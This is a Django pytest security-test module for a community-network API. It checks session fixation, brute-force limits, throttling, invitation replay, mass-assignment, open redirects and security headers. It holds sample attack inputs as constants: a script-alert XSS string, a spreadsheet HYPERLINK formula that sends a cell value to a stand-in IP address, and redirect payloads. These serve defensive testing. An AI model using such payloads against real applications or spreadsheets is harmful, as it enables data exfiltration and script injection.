"""What an attacker tries, and what comes of it."""

import json
import re
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest
from django.conf import LazySettings
from django.contrib.sessions.models import Session
from django.core import mail
from django.core.cache import cache
from django.test import Client
from django.utils import timezone

from api.settings import WRITES_PER_MINUTE_MAX
from api.throttles import SecretThrottle, WriteThrottle
from network.people.models import Community, Membership, Organisation, Role, User
from network.people.services import invite, sign_in_link_token
from network.places.models import Place
from tests.api.walk import routes
from tests.factories import CommunityFactory, OrganisationFactory, UserFactory, acting, member

pytestmark = pytest.mark.django_db
AUTH = "/_allauth/browser/v1/auth"
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'


@pytest.fixture(autouse=True)
def fresh_limits() -> None:
    cache.clear()


@pytest.fixture
def isle() -> Community:
    community: Community = CommunityFactory.create(slug="isle")
    return community


def browser(user: User | None = None) -> Client:
    client = Client(raise_request_exception=False)
    if user is not None:
        client.force_login(user)
    return client


def send(client: Client, path: str, body: Any, key: str = "", method: str = "post") -> Any:
    return getattr(client, method)(
        path,
        body,
        content_type="application/json",
        headers={"Idempotency-Key": key or str(uuid4())},
    )


def code_of_last_mail() -> str:
    found = re.search(r"^\d{6}$", str(mail.outbox[-1].body), re.MULTILINE)
    assert found is not None
    return found.group()


class TestSessions:
    def test_a_session_begun_by_another_is_not_the_one_signed_in_with(self) -> None:
        victim = browser()
        victim.session.save()
        planted = victim.session.session_key
        victim.cookies["sessionid"] = planted or ""
        token = sign_in_link_token(UserFactory.create())
        assert send(victim, "/api/v1/session/link/", {"token": token}).status_code == 200
        assert victim.session.session_key != planted
        attacker = browser()
        attacker.cookies["sessionid"] = planted or ""
        assert attacker.get("/api/v1/session/").json()["user"] is None

    @pytest.mark.parametrize("way", ["code", "invitation"])
    def test_whichever_way_one_comes_in_the_session_is_a_new_one(
        self, isle: Community, way: str
    ) -> None:
        UserFactory.create(email="wren@example.org")
        victim = browser()
        send(victim, f"{AUTH}/code/request", {"email": "wren@example.org"})
        planted = victim.cookies["sessionid"].value
        if way == "code":
            send(victim, f"{AUTH}/code/confirm", {"code": code_of_last_mail()})
        else:
            school = OrganisationFactory.create(community=isle)
            organiser = acting(isle, Role.ORGANISER)
            _, token = invite(organiser, role="contact", organisation_id=school.id)
            path = f"/api/v1/invitations/{token}/accept/"
            send(victim, path, {"email": "finch@example.org"})
        assert victim.get("/api/v1/session/").json()["user"] is not None
        assert victim.cookies["sessionid"].value != planted
        attacker = browser()
        attacker.cookies["sessionid"] = planted
        assert attacker.get("/api/v1/session/").json()["user"] is None

    def test_a_session_ends_two_weeks_after_it_began_however_much_it_is_used(self) -> None:
        client = browser()
        send(client, "/api/v1/session/link/", {"token": sign_in_link_token(UserFactory.create())})
        ends_at = client.session.get_expiry_date()
        row = Session.objects.get(session_key=client.session.session_key)
        for _ in range(3):
            client.get("/api/v1/session/")
        row_later = Session.objects.get(session_key=client.session.session_key)
        assert row_later.expire_date == row.expire_date
        assert abs(row.expire_date - ends_at) < timedelta(minutes=5)
        Session.objects.update(expire_date=timezone.now() - timedelta(seconds=1))
        assert client.get("/api/v1/session/").json()["user"] is None

    def test_a_session_that_is_signed_out_cannot_be_taken_up_again(self) -> None:
        client = browser(UserFactory.create())
        kept = client.cookies["sessionid"].value
        client.delete("/api/v1/session/")
        client.cookies["sessionid"] = kept
        assert client.get("/api/v1/session/").json()["user"] is None

    def test_a_write_from_another_site_is_refused(self, isle: Community) -> None:
        client = Client(enforce_csrf_checks=True)
        client.force_login(member(isle, Role.ORGANISER))
        answer = send(client, "/api/v1/communities/isle/districts/", {"name": "Planted"})
        assert answer.status_code == 403

    def test_a_person_sees_their_devices_and_signs_out_all_of_them(self) -> None:
        person = UserFactory.create()
        devices = []
        for agent in ("Phone", "Office computer"):
            device = Client(headers={"User-Agent": agent})
            token = sign_in_link_token(User.objects.get(id=person.id))
            assert send(device, "/api/v1/session/link/", {"token": token}).status_code == 200
            devices.append(device)
        listed = devices[0].get(f"{AUTH}/sessions").json()["data"]
        assert {one["user_agent"] for one in listed} == {"Phone", "Office computer"}
        assert [one["user_agent"] for one in listed if one["is_current"]] == ["Phone"]
        everywhere = {"sessions": [one["id"] for one in listed]}
        send(devices[0], f"{AUTH}/sessions", everywhere, method="delete")
        for device in devices:
            assert device.get("/api/v1/session/").json()["user"] is None

    def test_nobody_signs_out_anothers_device(self) -> None:
        people = [UserFactory.create() for _ in range(2)]
        theirs, mine = (browser() for _ in people)
        for device, person in zip((theirs, mine), people, strict=True):
            token = sign_in_link_token(person)
            send(device, "/api/v1/session/link/", {"token": token})
        (listed,) = theirs.get(f"{AUTH}/sessions").json()["data"]
        send(mine, f"{AUTH}/sessions", {"sessions": [listed["id"]]}, method="delete")
        assert theirs.get("/api/v1/session/").json()["user"] is not None


class TestGuessing:
    def test_a_code_is_dead_after_three_wrong_guesses(self) -> None:
        UserFactory.create(email="wren@example.org")
        attacker = browser()
        send(attacker, f"{AUTH}/code/request", {"email": "wren@example.org"})
        right = code_of_last_mail()
        guesses = [f"{number:06d}" for number in range(4) if f"{number:06d}" != right][:3]
        for guess in guesses:
            send(attacker, f"{AUTH}/code/confirm", {"code": guess})
        send(attacker, f"{AUTH}/code/confirm", {"code": right})
        assert attacker.get("/api/v1/session/").json()["user"] is None

    def test_a_code_that_proves_an_address_is_dead_after_three_wrong_guesses(self) -> None:
        attacker = browser()
        send(attacker, f"{AUTH}/signup", {"email": "wren@example.org"})
        right = code_of_last_mail()
        guesses = [f"{number:06d}" for number in range(4) if f"{number:06d}" != right][:3]
        for guess in guesses:
            send(attacker, f"{AUTH}/email/verify", {"key": guess})
        send(attacker, f"{AUTH}/email/verify", {"key": right})
        assert attacker.get("/api/v1/session/").json()["user"] is None

    def test_a_code_is_of_no_use_in_another_browser(self) -> None:
        UserFactory.create(email="wren@example.org")
        send(browser(), f"{AUTH}/code/request", {"email": "wren@example.org"})
        thief = browser()
        send(thief, f"{AUTH}/code/confirm", {"code": code_of_last_mail()})
        assert thief.get("/api/v1/session/").json()["user"] is None

    def test_codes_are_asked_for_so_often_and_no_more(self) -> None:
        UserFactory.create(email="wren@example.org")
        statuses = [
            send(browser(), f"{AUTH}/code/request", {"email": "wren@example.org"}).status_code
            for _ in range(11)
        ]
        assert statuses == [401] * 10 + [400]
        assert len(mail.outbox) == 10

    def test_an_attacker_who_is_stopped_locks_nobody_else_out(self) -> None:
        UserFactory.create(email="wren@example.org")
        for _ in range(12):
            send(browser(), f"{AUTH}/code/request", {"email": "wren@example.org"})
        sent = len(mail.outbox)
        wren = Client(REMOTE_ADDR="192.0.2.7")
        send(wren, f"{AUTH}/code/request", {"email": "wren@example.org"})
        assert len(mail.outbox) == sent + 1
        send(wren, f"{AUTH}/code/confirm", {"code": code_of_last_mail()})
        assert wren.get("/api/v1/session/").json()["user"]["email"] == "wren@example.org"

    def test_a_person_writes_so_often_and_no_more(
        self, isle: Community, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(WriteThrottle, "THROTTLE_RATES", {"write": "5/min"})
        organiser = browser(member(isle, Role.ORGANISER))
        there = "/api/v1/communities/isle/districts/"
        statuses = [send(organiser, there, {"name": str(n)}).status_code for n in range(6)]
        assert statuses == [201] * 5 + [429]
        assert organiser.get(there).status_code == 200
        other = browser(member(isle, Role.ORGANISER))
        assert send(other, there, {"name": "Nether Quill"}).status_code == 201

    def test_what_a_phone_kept_all_day_is_taken_at_once(
        self, isle: Community, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        limit = {"write": f"{WRITES_PER_MINUTE_MAX}/min"}
        monkeypatch.setattr(WriteThrottle, "THROTTLE_RATES", limit)
        phone = browser(member(isle, Role.ORGANISER))
        there = "/api/v1/communities/isle/districts/"
        kept = [send(phone, there, {"name": str(n)}).status_code for n in range(200)]
        assert set(kept) == {201}

    @pytest.mark.parametrize(
        "path",
        ["invitations/guess/", "calendar-feeds/guess/"],
    )
    def test_secrets_in_addresses_are_guessed_so_often_and_no_more(
        self, path: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(SecretThrottle, "THROTTLE_RATES", {"secret": "5/min"})
        attacker = browser()
        statuses = [attacker.get(f"/api/v1/{path}").status_code for _ in range(6)]
        assert statuses == [404] * 5 + [429]
        # A header that names another address changes nothing; another address is not stopped.
        headers = {"X-Forwarded-For": "192.0.2.9"}
        assert attacker.get(f"/api/v1/{path}", headers=headers).status_code == 429
        assert Client(REMOTE_ADDR="192.0.2.7").get(f"/api/v1/{path}").status_code == 404

    def test_who_has_an_account_cannot_be_told_from_the_answer(self) -> None:
        UserFactory.create(email="wren@example.org")
        answers = [
            send(browser(), f"{AUTH}/code/request", {"email": email})
            for email in ("wren@example.org", "nobody@example.org")
        ]
        first, second = (json.loads(answer.content) for answer in answers)
        assert answers[0].status_code == answers[1].status_code
        assert first["meta"] == second["meta"]

    def test_an_invitation_is_used_once(self, isle: Community) -> None:
        school = OrganisationFactory.create(community=isle)
        _, token = invite(acting(isle, Role.ORGANISER), role="contact", organisation_id=school.id)
        path = f"/api/v1/invitations/{token}/accept/"
        assert send(browser(), path, {"email": "wren@example.org"}).status_code == 200
        replayed = send(browser(), path, {"email": "thief@example.org"})
        assert replayed.status_code == 410
        assert not User.objects.filter(email="thief@example.org").exists()


class TestSmuggling:
    def test_what_a_person_may_not_say_of_a_place_is_not_listened_to(self, isle: Community) -> None:
        stranger, other = UserFactory.create(), CommunityFactory.create()
        body = {
            "organisation": {"name": "Quill School", "kind": "school"},
            "name": "Quill School",
            "kind": "school",
            "address": "1 Quill Row",
            "longitude": -30.0,
            "latitude": 45.0,
            "status": "admitted",
            "admitted_at": "2026-01-01T00:00:00Z",
            "community": str(other.id),
            "community_id": str(other.id),
        }
        answer = send(browser(stranger), "/api/v1/communities/isle/places/", body)
        assert answer.status_code == 201, answer.content
        place = Place.objects.get()
        assert (place.status, place.community) == ("asked", isle)
        assert place.admitted_at is None

    def test_nobody_gives_themselves_a_role_on_joining(self, isle: Community) -> None:
        school = OrganisationFactory.create(community=isle)
        _, token = invite(acting(isle, Role.ORGANISER), role="contact", organisation_id=school.id)
        body = {"email": "wren@example.org", "role": "organiser", "is_staff": True}
        send(browser(), f"/api/v1/invitations/{token}/accept/", body)
        joined = Membership.objects.get(user__email="wren@example.org")
        assert (joined.role, joined.organisation) == ("contact", school)

    def test_no_address_leads_to_another_site(self, isle: Community) -> None:
        client = browser(member(isle, Role.ORGANISER))
        away = "//192.0.2.1/"
        asked = {"next": away, "redirect": away, "return_to": away, "url": away}
        for route in routes():
            if "GET" in route.methods:
                answer = client.get(route.address(community="isle", id=isle.id), asked)
                assert not 300 <= answer.status_code < 400, route.name
        for path in (away, "//192.0.2.1/api/v1/session", "/api/v1/session", "/\\192.0.2.1"):
            answer = client.get(path)
            answer.close()
            location = answer.headers.get("Location", "/")
            assert re.match(r"/(?![/\\])", location), (path, location)

    def test_a_script_in_a_text_stays_data(self, isle: Community) -> None:
        client = browser(member(isle, Role.ORGANISER))
        body = {"name": SCRIPT, "kind": "school"}
        answer = send(client, "/api/v1/communities/isle/organisations/", body)
        assert answer.status_code == 201
        listed = client.get("/api/v1/communities/isle/organisations/")
        assert listed.headers["Content-Type"] == "application/json"
        assert listed.headers["X-Content-Type-Options"] == "nosniff"
        assert listed.json()["results"][0]["name"] == SCRIPT
        assert Organisation.objects.get().name == SCRIPT


class TestHeaders:
    def test_browsers_are_told_what_a_page_may_load(self) -> None:
        for path in ("/api/v1/session/", "/", "/nowhere"):
            answer = browser().get(path)
            answer.close()  # the page of the app is a file
            headers = answer.headers
            policy = headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy
            # WebAssembly may run, for the reader of tags; script in a text may not.
            assert "unsafe" not in policy.replace("'wasm-unsafe-eval'", "")
            assert "frame-ancestors 'none'" in policy
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert headers["Referrer-Policy"] == "same-origin"
            assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
            assert headers["X-Frame-Options"] == "DENY"

    def test_behind_tls_the_session_cookie_is_for_tls_only(self, settings: LazySettings) -> None:
        settings.SESSION_COOKIE_SECURE = True
        client = browser()
        token = sign_in_link_token(UserFactory.create())
        send(client, "/api/v1/session/link/", {"token": token})
        assert client.cookies["sessionid"]["httponly"]
        assert client.cookies["sessionid"]["samesite"] == "Lax"
        assert client.cookies["sessionid"]["secure"]

    def test_no_cache_on_the_way_keeps_an_answer_of_the_api(self) -> None:
        for route in routes():
            if "GET" in route.methods:
                answer = browser().get(route.address(community="isle", id=uuid4()))
                kept = answer.headers["Cache-Control"]
                assert "private" in kept or "no-store" in kept, (route.name, kept)
